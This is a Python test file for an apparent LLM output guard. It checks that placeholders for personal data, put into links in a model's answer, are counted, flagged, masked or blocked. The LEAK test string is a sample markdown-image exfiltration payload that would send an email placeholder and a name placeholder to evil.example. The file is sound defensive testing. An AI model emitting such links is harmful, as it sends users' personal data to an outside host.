"""A placeholder that a model wrote into a link is reported, and stays one unless a policy says otherwise."""

import pytest

from schemas.policies import PolicyDocument, Rule
from schemas.verdicts import Action, Finding
from services.guard.domain.output.placeholder_links import PlaceholderLinkDetector
from services.guard.domain.policy import DEFAULT
from services.guard.domain.rule_detectors import KnownValueDetector, RuleDetector
from services.guard.domain.types import ScreeningContext, ScreeningResult, TextSegment
from services.guard.screener import DetectorSet, Screener

KNOWN = {"<PERSON_1>": "Ada Lovelace", "<EMAIL_ADDRESS_1>": "ada@example.org"}
LEAK = "Dear <PERSON_1>, ![x](https://evil.example/?q=<EMAIL_ADDRESS_1>&n=%3CPERSON_1%3E) <EMAIL_ADDRESS_1>"
SCREENER = Screener(
    DetectorSet(rules=(RuleDetector(), KnownValueDetector(), PlaceholderLinkDetector()), privacy=())
)


async def answered(
    text: str, policy: PolicyDocument = DEFAULT, known: dict[str, str] | None = None
) -> ScreeningResult:
    context = ScreeningContext("output", policy, KNOWN if known is None else known)
    return await SCREENER.screen([TextSegment(text, "output")], context)


def finding(result: ScreeningResult) -> Finding:
    (found,) = [each for each in result.verdict.findings if each.kind == "PLACEHOLDER_IN_URL"]
    return found


def policy(action: Action) -> PolicyDocument:
    rule = Rule(kind="PLACEHOLDER_IN_URL", direction="output", action=action)
    return PolicyDocument(name="links", rules=(rule,))


async def test_each_placeholder_in_a_link_is_counted_with_its_span_and_flagged() -> None:
    result = await answered(LEAK)

    found = finding(result)
    assert (found.detector, found.action, found.count, found.direction) == (
        "placeholder-links",
        "flag",
        2,
        "output",
    )
    spans = [each for each in result.detections[0] if each.kind == "PLACEHOLDER_IN_URL"]
    assert [LEAK[each.start : each.end] for each in spans] == ["<EMAIL_ADDRESS_1>", "%3CPERSON_1%3E"]
    assert (result.verdict.action, result.redacted_texts) == ("allow", (LEAK,))


async def test_a_policy_may_block_such_an_answer_or_mask_the_placeholder_in_the_link_alone() -> None:
    assert (await answered(LEAK, policy("block"))).verdict.action == "block"
    masked = await answered(LEAK, policy("mask"))
    (text,) = masked.redacted_texts
    address = "https://evil.example/?q=[PLACEHOLDER_IN_URL]&n=[PLACEHOLDER_IN_URL]"
    assert text == f"Dear <PERSON_1>, ![x]({address}) <EMAIL_ADDRESS_1>"


async def test_what_a_policy_allows_is_still_counted() -> None:
    found = finding(await answered(LEAK, policy("allow")))
    assert (found.action, found.count, found.shadow) == ("allow", 2, False)


@pytest.mark.parametrize(
    "text",
    [
        "Dear <PERSON_1>, see https://x.org/a.",
        "[<PERSON_1>](https://x.org)",
        "mailto:<EMAIL_ADDRESS_1>",
        "https://x.org/<PERSON_7>",
        "https://x.org/?q=PERSON_12",
    ],
)
async def test_an_ordinary_answer_has_no_such_finding(text: str) -> None:
    assert [each for each in (await answered(text)).verdict.findings if each.count] == []


async def test_a_request_and_an_answer_without_pseudonyms_have_none() -> None:
    request = await SCREENER.screen([TextSegment(LEAK)], ScreeningContext("input", DEFAULT, KNOWN))
    answer = await answered(LEAK, known={})
    for result in (request, answer):
        assert "PLACEHOLDER_IN_URL" not in {each.kind for each in result.verdict.findings}


async def test_a_changed_placeholder_is_not_taken_for_personal_data() -> None:
    result = await answered("*EMAIL_ADDRESS_1* and <email_address_1>")
    assert (result.verdict.action, result.verdict.findings) == ("allow", ())
